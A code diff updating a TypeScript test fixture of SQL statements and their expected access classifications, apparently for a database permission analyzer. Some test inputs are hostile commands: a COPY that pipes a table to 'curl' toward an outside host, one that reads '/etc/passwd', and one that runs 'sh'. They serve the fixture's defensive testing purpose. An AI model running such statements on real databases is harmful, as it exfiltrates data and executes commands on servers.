@@ -96,8 +96,11 @@ export const WRITES: readonly StatementCase[] = [
     "create table app.scratch as table secrets with no data",
     "ddl: ddl app.scratch, read public.secrets!",
   ),
-  judged("copy orders to stdout", "copyOut: copyOut public.orders!"),
-  judged("copy orders (id, note) to stdout with (format csv, header)", "copyOut: copyOut public.orders!"),
+  judged("copy orders to stdout", "copyOut: read public.orders!, copyOut public.orders!"),
+  judged(
+    "copy orders (id, note) to stdout with (format csv, header)",
+    "copyOut: read public.orders!, copyOut public.orders!",
+  ),
   judged(
     "copy (select * from secrets where id = 1) to stdout",
     "copyOut: read public.secrets, copyOut public.secrets",
@@ -109,9 +112,12 @@ export const WRITES: readonly StatementCase[] = [
   ),
   judged("copy orders from stdin", "copyIn: copyIn public.orders"),
   judged("copy orders from stdin where id > 1", "copyIn: copyIn public.orders"),
-  judged("copy orders to '/tmp/x'", "copyOut: copyOut public.orders!, ?SERVER_FILE"),
+  judged("copy orders to '/tmp/x'", "copyOut: read public.orders!, copyOut public.orders!, ?SERVER_FILE"),
   judged("copy orders from '/etc/passwd'", "copyIn: copyIn public.orders, ?SERVER_FILE"),
-  judged("copy orders to program 'curl -T - http://x'", "copyOut: copyOut public.orders!, ?SERVER_FILE"),
+  judged(
+    "copy orders to program 'curl -T - http://x'",
+    "copyOut: read public.orders!, copyOut public.orders!, ?SERVER_FILE",
+  ),
   judged("copy (select 1) to program 'sh'", "copyOut: copyOut, ?SERVER_FILE"),
   judged(
     "merge into staging s using secrets u on s.id = u.id when matched then do nothing",
